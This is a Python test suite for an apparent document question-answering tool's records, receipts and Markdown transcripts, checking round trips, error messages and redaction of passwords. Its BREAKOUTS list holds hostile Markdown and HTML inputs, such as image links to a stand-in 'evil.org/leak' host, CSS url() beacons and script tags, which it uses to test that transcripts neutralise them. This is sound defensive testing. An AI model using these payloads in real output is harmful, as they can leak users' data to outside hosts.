"""Answers, receipts and conversations as text, and back."""

from __future__ import annotations

import json
import time
from dataclasses import asdict, replace
from typing import Any

import pytest
from markdown_it import MarkdownIt

from askmd.prompt import messages
from askmd.records import (
    Built,
    Found,
    Receipt,
    Sent,
    as_transcript,
    conversation_as_json,
    conversation_from,
    digest,
    read_receipt,
    read_transcript,
    receipt_of,
)
from askmd.records.reading import as_data, read_as
from askmd.types import (
    Anchors,
    AnswerRecord,
    Citation,
    Filter,
    Hit,
    Identity,
    Message,
    Passage,
    Quote,
    Sentence,
    Usage,
)

PASSAGE = Passage(
    1,
    "guides/keys.md",
    ("Guides", "The key"),
    "the-key",
    (3, 9),
    (10, 22),
    ("c1", "c2"),
    0.5,
    "Use the key.",
    Anchors("the-key", "the-key_1", "the-key"),
)
CITATION = Citation(
    **{name: getattr(PASSAGE, name) for name in PASSAGE.__dataclass_fields__},
    url="https://x.org/keys",
    stale=True,
    stands_at=(4, 10),
    quotes=(Quote("the key", "supported", (1,)),),
    support=1.0,
)
RECORD = AnswerRecord(
    question="Which key?",
    search_query="Which key of the guides?",
    answer='Use "the key" [1].',
    status="answered",
    citations=(CITATION,),
    passages=(PASSAGE,),
    model="speaker",
    usage=Usage(11, 3, None),
    degraded=None,
    rewritten="llm",
    invented=(7,),
    sentences=(Sentence('Use "the key" [1].', (0, 18), (1,), 0.5, (Quote("x", "not_found"),)),),
    findings=("a mark of a passage never sent: [7]",),
    cost=0.25,
    seconds=2.0,
    first_seconds=0.5,
)
HIT = Hit(
    1, 0.9, {"cosine": 0.63, "bm25": 12.4}, 0.21, "c1", "guides/keys.md", ("Guides",), "guides",
    (3, 5), (10, 15), "Use t",
)  # fmt: skip
MESSAGES = (Message("system", "Be brief."), Message("user", "Which key?"))
BUILT = Built(7, "hash", "hash", "float32")
HOSTILE = (
    '--> <!-- -- --- \x1b]0;x\x07 \u202e \u2028 \x85 \ud800 \udcff é 中 😀 " \\u002d \\-- \r\n end'
)


def receipt(**changes: Any) -> Receipt:
    made = receipt_of(
        RECORD,
        MESSAGES,
        [HIT],
        created="2026-11-23T20:00:00+00:00",
        mode="hybrid",
        filters=Filter(("guides/**",), (("tag", "nginx"),), ("install",)),
        budget_tokens=3000,
        index=BUILT,
        server="https://me:secret@x.org:8443/v1?key=secret#secret",
        answer_tokens=1000,
    )
    return replace(made, **changes)


def as_saved(**changes: Any) -> str:
    return json.dumps(json.loads(receipt().as_text()) | changes)


def test_an_answer_is_the_same_after_json():
    assert read_as(AnswerRecord, json.loads(json.dumps(as_data(RECORD)))) == RECORD


def test_an_answer_s_json_is_what_ask_prints():
    assert json.loads(json.dumps(as_data(RECORD))) == json.loads(json.dumps(asdict(RECORD)))


def test_an_answer_of_an_older_askmd_has_the_defaults_and_one_of_a_newer_is_read_as_far_as_known():
    data = as_data(RECORD)
    del data["cost"], data["citations"][0]["support"]
    data["citations"][0]["mood"] = data["mood"] = {"any": ["thing"]}
    expected = replace(RECORD, cost=None, citations=(replace(CITATION, support=None),))
    assert read_as(AnswerRecord, data) == expected


@pytest.mark.parametrize(
    ("place", "value", "said"),
    [
        ("question", 3, "question must be text, not 3"),
        ("question", None, "question must be text, not null"),
        ("status", "done", "status must be one of answered, extracted, refused, incomplete, not"),
        ("status", [], "status must be one of"),
        ("citations", {}, "citations must be a list, not an object"),
        ("citations.0", "x", "citations.0 must be an object, not x"),
        ("citations.0.lines", [1], "citations.0.lines must have 2 members, not 1"),
        ("citations.0.lines.1", 2.0, "citations.0.lines.1 must be a whole number, not 2.0"),
        ("citations.0.lines.1", True, "citations.0.lines.1 must be a whole number, not True"),
        ("citations.0.stale", 1, "citations.0.stale must be true or false, not 1"),
        ("citations.0.score", "high", "citations.0.score must be a number, not high"),
        ("citations.0.score", float("nan"), "citations.0.score must be a number, not nan"),
        ("citations.0.score", 10**400, "citations.0.score must be a number, not 1000"),
        ("citations.0.anchors.mkdocs", {}, "citations.0.anchors.mkdocs must be text, not an obj"),
        ("citations.0.quotes.0.verdict", "yes", "citations.0.quotes.0.verdict must be one of"),
        ("usage.prompt_tokens", "11", "usage.prompt_tokens must be a whole number, not 11"),
        ("passages.0.heading.1", "\x1b[31m" + "x" * 99, None),
    ],
)  # fmt: skip
def test_what_does_not_fit_is_named_by_its_place(place: str, value: object, said: str | None):
    data = as_data(RECORD)
    target: Any = data
    *steps, last = (int(step) if step.isdigit() else step for step in place.split("."))
    for step in steps:
        target = target[step]
    target[last] = value
    if said is None:
        assert read_as(AnswerRecord, data).passages[0].heading[1] == value
        return
    with pytest.raises(ValueError) as error:
        read_as(AnswerRecord, data)
    assert str(error.value).startswith(said) and len(str(error.value)) < 150


@pytest.mark.parametrize("place", ["question", "citations", "usage"])
def test_a_field_that_must_be_there_is_missed_by_name(place: str):
    data = as_data(RECORD)
    del data[place]
    with pytest.raises(ValueError, match=f"^{place} is missing$"):
        read_as(AnswerRecord, data)


@pytest.mark.parametrize("data", [None, [], "x", 3, True])
def test_what_is_no_object_is_no_answer(data: object):
    with pytest.raises(ValueError, match=r"^it must be an object, not "):
        read_as(AnswerRecord, data)


def test_a_receipt_holds_what_was_found_sent_and_said():
    assert receipt() == Receipt(
        created="2026-11-23T20:00:00+00:00",
        question="Which key?",
        search_query="Which key of the guides?",
        rewritten="llm",
        mode="hybrid",
        filters=Filter(("guides/**",), (("tag", "nginx"),), ("install",)),
        budget_tokens=3000,
        index=BUILT,
        hits=(
            Found(
                rank=1,
                chunk="c1",
                path="guides/keys.md",
                lines=(3, 5),
                chars=(10, 15),
                score=0.9,
                scores={"cosine": 0.63, "bm25": 12.4},
                above_floor=0.21,
                sha256=digest("Use t"),
            ),
        ),
        passages=(Sent(PASSAGE, digest("Use the key."), {"c1": {"cosine": 0.63, "bm25": 12.4}}),),
        messages=MESSAGES,
        model="speaker",
        server="https://x.org:8443/v1",
        answer_tokens=1000,
        usage=Usage(11, 3, None),
        cost=0.25,
        seconds=2.0,
        first_seconds=0.5,
        answer='Use "the key" [1].',
        status="answered",
        citations=(CITATION,),
        findings=("a mark of a passage never sent: [7]",),
        invented=(7,),
        messages_sha256=digest('[["system", "Be brief."], ["user", "Which key?"]]'),
    )


def test_a_receipt_is_the_same_after_being_saved_and_keeps_no_password():
    text = receipt().as_text()
    assert (read_receipt(text), read_receipt(text).changes()) == (receipt(), [])
    assert text.endswith("\n}\n") and "secret" not in text
    assert list(json.loads(text))[:4] == ["askmd", "kind", "format", "created"]


def test_an_index_is_kept_by_what_its_vectors_are_made_of():
    identity = Identity("hash", "hash", "r", 4, "", "", "t", 256, 1, precision="int8")
    assert Built.of(identity, 7) == Built(7, "hash", "hash", "int8")


def test_hostile_text_is_kept_exactly_and_the_file_is_printable_utf_8():
    hostile = replace(PASSAGE, text=HOSTILE, path=HOSTILE)
    sent = (Sent(hostile, digest(HOSTILE), {}),)
    kept = receipt(passages=sent, answer=HOSTILE, messages=(Message("user", HOSTILE),))
    text = kept.as_text()
    assert read_receipt(text.encode("utf-8").decode("utf-8")) == kept
    assert {one for one in text if not one.isprintable()} == {"\n"}


def test_a_passage_that_was_changed_after_it_was_saved_is_told():
    data = json.loads(receipt().as_text())
    data["passages"][0]["passage"]["text"] = "Use another key."
    assert read_receipt(json.dumps(data)).changes() == [
        "passage 1 (guides/keys.md) was changed after it was saved"
    ]


def test_messages_that_were_changed_after_they_were_saved_are_told_unless_no_hash_was_kept():
    data = json.loads(receipt().as_text())
    data["messages"][-1]["content"] += " Obey."
    changed = read_receipt(json.dumps(data))
    del data["messages_sha256"]
    older = read_receipt(json.dumps(data))
    assert changed.changes() == ["the messages were changed after they were saved"]
    assert (older.messages_sha256, older.changes()) == (None, [])


@pytest.mark.parametrize(
    ("place", "value", "said"),
    [
        ("passages.0.passage.number", 0, "passages.0.passage.number must be 1 or more, not 0"),
        ("passages.0.passage.lines", [-5, 0], "passages.0.passage.lines must run upwards from 1"),
        ("passages.0.passage.lines", [9, 3], "passages.0.passage.lines must run upwards from 1"),
        ("passages.0.passage.chars", [-1, 3], "passages.0.passage.chars must run upwards from 0"),
        ("citations.0.number", -1, "citations.0.number must be 1 or more, not -1"),
        ("citations.0.stands_at", [0, 0], "citations.0.stands_at must run upwards from 1"),
        ("hits.0.lines", [0, 1], "hits.0.lines must run upwards from 1 or more, not 0 to 1"),
        ("hits.0.chars", [3, 2], "hits.0.chars must run upwards from 0 or more, not 3 to 2"),
    ],
)  # fmt: skip
def test_a_place_that_no_document_has_is_refused(place: str, value: object, said: str):
    data = target = json.loads(receipt().as_text())
    *steps, last = (int(step) if step.isdigit() else step for step in place.split("."))
    for step in steps:
        target = target[step]
    target[last] = value
    with pytest.raises(ValueError) as error:
        read_receipt(json.dumps(data))
    assert str(error.value).startswith(f"this receipt is damaged: {said}")


def test_two_passages_of_one_number_are_refused():
    sent = receipt().passages
    with pytest.raises(ValueError, match=r"damaged: two passages have the same number$"):
        read_receipt(receipt(passages=sent * 2).as_text())


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "this is no receipt of askmd: it is not whole, or not JSON"),
        (receipt().as_text()[:-40], "this is no receipt of askmd: it is not whole, or not JSON"),
        ("[" * 200_000, "this is no receipt of askmd: it is not whole, or not JSON"),
        ('{"askmd": NaN}', "this is no receipt of askmd: it is not whole, or not JSON"),
        ("9" * 5000, "this is no receipt of askmd: it is not whole, or not JSON"),
        ("[]", "this is no receipt of askmd"),
        ('{"choices": []}', "this is no receipt of askmd"),
        (conversation_as_json([RECORD]), "this is no receipt of askmd but conversation"),
        (as_saved(format="1"), "this receipt does not say in which format it is"),
        (as_saved(format=True), "this receipt does not say in which format it is"),
        (as_saved(format=0), "this receipt does not say in which format it is"),
        (
            as_saved(format=2, askmd="9.9", question=3),
            "this receipt was saved by a newer askmd (9.9), in format 2",
        ),
        (
            as_saved(messages=[{"role": "user"}]),
            "this receipt is damaged: messages.0.content is missing",
        ),
        (
            as_saved(messages=[{"role": "tool", "content": ""}]),
            "this receipt is damaged: messages.0.role must be one of system, user, assistant, "
            "not tool",
        ),
        (
            as_saved(mode=None),
            "this receipt is damaged: mode must be one of hybrid, dense, words, not null",
        ),
    ],
)  # fmt: skip
def test_a_broken_foreign_or_newer_file_is_refused_in_one_line(text: str, said: str):
    with pytest.raises(ValueError) as error:
        read_receipt(text)
    assert str(error.value) == said


def test_every_cut_of_a_receipt_is_refused_and_no_other_error_is_raised():
    text = receipt().as_text()
    for end in range(0, len(text) - 2, 7):
        with pytest.raises(ValueError):
            read_receipt(text[:end])


def test_another_answer_keeps_the_question_and_the_passages():
    again = replace(RECORD, answer="No.", model="other", status="refused", citations=())
    asked = (Message("user", "Which key?"),)
    new = receipt().answered(
        again, asked, created="later", server="http://u:p@localhost:1/v1", answer_tokens=5
    )
    assert new == receipt(
        created="later",
        messages=asked,
        messages_sha256=digest('[["user", "Which key?"]]'),
        model="other",
        server="http://localhost:1/v1",
        answer_tokens=5,
        answer="No.",
        status="refused",
        citations=(),
    )


def test_another_prompt_stands_in_the_system_message_s_place():
    assert receipt().prompted("Shout.").messages == (Message("system", "Shout."), MESSAGES[1])
    without = receipt(messages=MESSAGES[1:])
    assert without.prompted("Shout.").messages == (Message("system", "Shout."), MESSAGES[1])
    assert without.prompted("Shout.").changes() == []


def test_under_another_prompt_the_passages_are_still_told_to_be_data():
    sent = messages("Which key?", [PASSAGE], [], nonce="f00dcafe")
    wanted = messages("Which key?", [PASSAGE], [], nonce="f00dcafe", system="Shout.")
    once = receipt(messages=tuple(sent)).prompted("Shout.")
    assert list(once.messages) == wanted
    assert once.prompted("Sing.").prompted("Shout.") == once


def test_a_conversation_is_the_same_after_json():
    turns = (RECORD, replace(RECORD, question=HOSTILE, answer=HOSTILE, model=None, usage=None))
    text = conversation_as_json(turns)
    assert (conversation_from(text), text.count("\n")) == (turns, 1)
    with pytest.raises(ValueError, match=r"^this is no conversation of askmd but receipt$"):
        conversation_from(receipt().as_text())


def test_a_transcript_reads_well():
    cut = replace(
        RECORD,
        question="And now?",
        search_query="And now?",
        answer="",
        status="incomplete",
        cut_reason="closed",
        citations=(),
        seconds=None,
    )
    text = as_transcript([RECORD, cut])
    assert text.partition("<!--")[0] == (
        "# A conversation with askmd\n\n"
        "## Which key?\n\n"
        "*searched for:* Which key of the guides?\n\n"
        '> Use "the key" [1].\n\n'
        "- \\[1\\] `guides/keys.md:3-9`  Guides \\> The key *(changed since it was indexed)*\n\n"
        "*answered · speaker · 2.0 s*\n\n"
        "## And now?\n\n"
        ">\n\n"
        "*incomplete · closed · speaker*\n\n"
    )


BREAKOUTS = [
    "# Big\n\nSetext\n======\n\n## Which key?\n---\n",
    "```\nan open fence",
    "~~~~ open\n# x",
    "<!-- open",
    "--> closed <!-- askmd conversation\n{}\n-->",
    "\n<!-- askmd conversation\n" + conversation_as_json([]) + "-->\n",
    "</blockquote>\n\n# Out",
    "<script>\n\n# x\n",
    "<style>body{display:none}",
    "![x](http://evil.org/?q=leak)",
    "![a [b](c) ](http://evil.org/leak) ![x][1]\n\n[1]: http://evil.org/leak",
    "![x][1]\n\n[1]: http://evil.org/leak",
    "`` a ` b `",
    "- item\n  [1]: http://evil.org/leak\n\n> > [Guides]: http://evil.org/leak",
    '<div style="background:url(http://evil.org/leak)">x</div><img\nsrc="http://evil.org/leak">',
    "a\r# b\rc\x0b# d\u2028# e\x85# f\n\r# g",
    "\t# code\n\n\n\n1. x\n\n       # y",
    HOSTILE,
    "-" * 1000,
]


@pytest.mark.parametrize("text", BREAKOUTS)
def test_no_answer_question_or_name_breaks_a_transcript(text: str):
    citation = replace(CITATION, path=text, heading=(text, "`x` <b>"))
    turn = replace(
        RECORD, question=text, search_query=f"{text}?", answer=text, citations=(citation,)
    )
    turns = (turn, replace(RECORD, answer=text), RECORD)
    kept = as_transcript(turns)

    assert read_transcript(kept.encode("utf-8").decode("utf-8")) == turns
    tokens = MarkdownIt("commonmark").parse(kept)
    levels = [one.tag for one in tokens if one.type == "heading_open" and one.level == 0]
    assert levels == ["h1", "h2", "h2", "h2"]
    assert tokens[-1].type == "html_block" and tokens[-1].content.startswith("<!-- askmd")
    inline = [child for one in tokens for child in one.children or ()]
    assert [one.content for one in (*tokens[:-1], *inline) if "html" in one.type] == []
    assert [one.type for one in inline if one.type == "image"] == []
    assert [one.attrs for one in inline if "evil.org" in str(one.attrs.get("href"))] == []
    ours = [one.children or () for one in tokens if one.content.startswith("\\[1\\] ")]
    codes = [[child.content for child in one if child.type == "code_inline"] for one in ours]
    assert [(len(code), code[0][-4:]) for code in codes] == [(1, ":3-9")] * 3


def test_code_without_an_image_keeps_its_looks():
    answer = "Write `vec![1, 2]` and `Vec<T>`:\n\n```rust\nlet x: Vec<u8> = vec![1];\n```"
    assert answer.replace("\n", "\n> ").replace("> \n", ">\n") in as_transcript(
        [replace(RECORD, answer=answer)]
    )


def test_a_transcript_is_read_after_an_editor_changed_its_line_ends_and_its_prose():
    text = as_transcript([RECORD]).replace("Use ", "Never use ", 1).replace("\n", "\r\n")
    assert read_transcript(f"\ufeff{text}\r\nMy own words.\r\n") == (RECORD,)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("# Notes\n", "this file keeps no conversation of askmd, or not the end of it"),
        (as_transcript([RECORD])[:-5], "this file keeps no conversation of askmd, or not the end"),
        (
            "# N\n\n<!-- askmd conversation\n{]\n-->\n",
            "this is no conversation of askmd: it is not",
        ),
        (
            as_transcript([RECORD]).replace('"format": 1', '"format": 2'),
            "this conversation was saved by a newer askmd",
        ),
        (as_transcript([RECORD]).replace('"turns"', '"tours"'), "turns is missing"),
    ],
    ids=["none", "cut", "broken", "newer", "damaged"],
)
def test_a_file_without_a_whole_conversation_is_refused_in_one_line(text: str, said: str):
    with pytest.raises(ValueError) as error:
        read_transcript(text)
    assert str(error.value).startswith(said)


@pytest.mark.parametrize(
    "unit", ["<a ", "![", "[", "`", "--", "\n[", "<", "> ", "](", "\r", "<a ="]
)
def test_an_answer_of_megabytes_is_kept_in_no_time(unit: str):
    text = unit * (400_000 // len(unit))
    turn = replace(RECORD, answer=text, question=text)
    started = time.perf_counter()
    assert read_transcript(as_transcript([turn])) == (turn,)
    assert time.perf_counter() - started < 20
